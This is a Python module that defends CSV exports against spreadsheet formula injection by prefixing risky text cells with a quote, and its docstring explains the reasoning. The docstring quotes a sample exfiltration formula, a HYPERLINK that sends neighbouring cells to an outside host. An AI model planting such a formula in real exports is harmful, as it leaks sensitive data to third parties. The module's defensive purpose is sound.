"""Neutralise spreadsheet formulas in the text cells of CSV exports (CWE-1236, "CSV injection").

Why: researchers open qualcode's CSV files in Excel or LibreOffice Calc, and those programs read a cell
that begins with ``=``, ``+``, ``-`` or ``@`` as a formula. Transcript segments, coders' notes, speaker
labels and inbox file names are free text that nobody vetted for this: an interview turn that begins
"- and then..." turns into ``#NAME?``, and a crafted inbox file or note such as
``=HYPERLINK("https://example.org/?"&A2, "click")`` can send the contents of neighbouring cells (on a
project about children at risk) to a stranger once a lead clicks it, or trigger older DDE exploits.

What we do follows OWASP's CSV Injection guidance (www-community, 2025 revision): a text cell whose
first character is one of ``= + - @``, tab (0x09), carriage return (0x0D) or line feed (0x0A) gets a
single quote ``'`` in front, which spreadsheets take as "this cell is text". Only the first character
counts, as OWASP asks that no cell *begin* with these. The other half of OWASP's advice (a separator or
quote inside a value must not start a new cell) is met by the ``csv`` module's RFC 4180 quoting, which
wraps any field holding ``,``, ``"``, CR or LF in quotes and doubles inner quotes.

What we do not do, on purpose:

* touch numeric columns. ``-1``, ``-0.5`` or a count written from an int or float column is a number
  and must reach a statistics package as one, so callers choose *columns* (``FormulaGuard``), never
  "anything that looks like a formula".
* guess that a text value is harmless because it looks like a number: in a text column ``-1+1`` is a
  formula to a spreadsheet.
* promise the quote is invisible. A spreadsheet may show it, and every data tool (pandas, R, ``csv``)
  reads it as part of the value. That is the price: text is no longer an exact slice of the anonymised
  transcript, which is why exports keep an explicit raw mode.
* defend a reader that splits on another separator (a ``;`` locale forcing a comma file apart) or
  full-width look-alikes such as ``＝``; no single-character prefix can, so import such files through the
  spreadsheet's text-import dialog with text columns.
"""

from __future__ import annotations

from collections.abc import Collection, Iterable, Iterator, Sequence
from dataclasses import dataclass, field

FORMULA_TRIGGERS: frozenset[str] = frozenset({"=", "+", "-", "@", "\t", "\r", "\n"})
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""

TEXT_PREFIX = "'"
"""What goes in front of a risky text cell: the spreadsheet convention for "this is text"."""


def starts_like_formula(value: str) -> bool:
    """Whether a spreadsheet would read ``value`` (a whole cell) as a formula or control sequence."""
    return bool(value) and value[0] in FORMULA_TRIGGERS


def neutralise_formula(value: str) -> str:
    """``value`` with ``'`` in front if it starts like a formula, else unchanged (see the module docstring).

    >>> neutralise_formula('=HYPERLINK("https://example.org")')
    '\\'=HYPERLINK("https://example.org")'
    >>> neutralise_formula("a plain sentence")
    'a plain sentence'
    """
    return TEXT_PREFIX + value if starts_like_formula(value) else value


@dataclass
class FormulaGuard:
    """Neutralise the text columns of CSV rows and count how many cells it changed.

    ``positions`` are the indices of free-text columns; every other column is passed through untouched,
    so numbers written from numeric columns keep their sign. Only ``str`` values are ever changed (an
    empty cell or a number in a text column stays as it is). ``changed`` is a count for the export's
    summary and audit row; which cells changed, and their text, is never recorded.
    """

    positions: frozenset[int]
    changed: int = field(default=0, init=False)

    @classmethod
    def for_header(cls, header: Sequence[str], text_columns: Collection[str]) -> FormulaGuard:
        """A guard over the columns of ``header`` named in ``text_columns``."""
        return cls(frozenset(i for i, name in enumerate(header) if name in text_columns))

    def row(self, values: Sequence[object]) -> list[object]:
        """A copy of ``values`` with its text columns neutralised."""
        out = list(values)
        for i in self.positions:
            if i < len(out):
                value = out[i]
                if isinstance(value, str) and starts_like_formula(value):
                    out[i] = TEXT_PREFIX + value
                    self.changed += 1
        return out

    def header(self, names: Sequence[str]) -> list[str]:
        """``names`` with every cell neutralised: column names are labels (code keys among them), never numbers."""
        out = []
        for name in names:
            safe = neutralise_formula(name)
            self.changed += safe != name
            out.append(safe)
        return out

    def rows(self, rows: Iterable[Sequence[object]]) -> Iterator[list[object]]:
        """``row`` over an iterable of rows, lazily (exports stream)."""
        for values in rows:
            yield self.row(values)


__all__ = ["FORMULA_TRIGGERS", "TEXT_PREFIX", "FormulaGuard", "neutralise_formula", "starts_like_formula"]
